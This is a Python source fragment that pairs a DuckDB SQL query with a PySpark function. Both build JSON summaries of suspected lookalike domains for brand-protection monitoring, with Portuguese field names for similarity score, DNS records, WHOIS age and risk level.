    return r.select("id", "tool_name", F.replace(T.compact_summary(F.col("tool_name"), F.col("result")), F.lit(" "), F.lit("")).alias("summary"))


@query("FN35_llm_summary", f"""WITH {_EVIDENCE} SELECT id, CAST(to_json({{'marca_monitorada': brand_name, 'dominio_suspeito': name, 'score_similaridade': floor(score * 10000.0 + 0.5) / 10000.0, 'score_acionabilidade': floor(score * 10000.0 + 0.5) / 10000.0, 'nivel_risco': 'high', 'bucket_atencao': {_BUCKET_AFTER}, 'regra_deteccao': rule, 'motivos_deteccao': codes,
  'whois': {{'idade_dias': k * 10}}, 'dns': {{'tipos_registros': CASE WHEN a = 0 THEN ['MX'] WHEN b = 0 THEN ['A', 'MX'] ELSE []::VARCHAR[] END, 'tem_mx': a = 0 OR b = 0, 'tem_web': a <> 0 AND b = 0}}, 'http': {{'status_code': 200, 'url_final': NULL::VARCHAR}}, 'pagina': {{'disposicao': page, 'nivel_risco': 'low'}},
  'email_seguranca': {{'risco_spoofing': NULL::VARCHAR}}, 'geolocalizacao': {{'pais': 'BR'}}, 'sinais_enriquecimento': list_transform(codes, lambda z: {{'codigo': z, 'severidade': 'low'}})}}) AS VARCHAR) AS summary FROM ev""")  # fmt: skip
def fn35(spark, d):
    e = _owned(spark, d)
    a, b, none = F.col("a"), F.col("b"), F.array().cast("array<string>")
    types = F.when(a == 0, F.array(F.lit("MX"))).when(b == 0, F.array(F.lit("A"), F.lit("MX"))).otherwise(none)
    signals = F.transform("codes", lambda c: F.struct(c.alias("codigo"), F.lit("low").alias("severidade")))
    null = F.lit(None).cast("string")
    return e.select("id", T.match_summary(F.col("brand_name"), F.col("name"), F.col("score"), F.col("score"), F.lit("high"), _bucket(e)[0], F.col("rule"), F.col("codes"), F.col("k") * 10, types, F.lit(200), null, F.col("page"), F.lit("low"), null, F.lit("BR"), signals).alias("summary"))
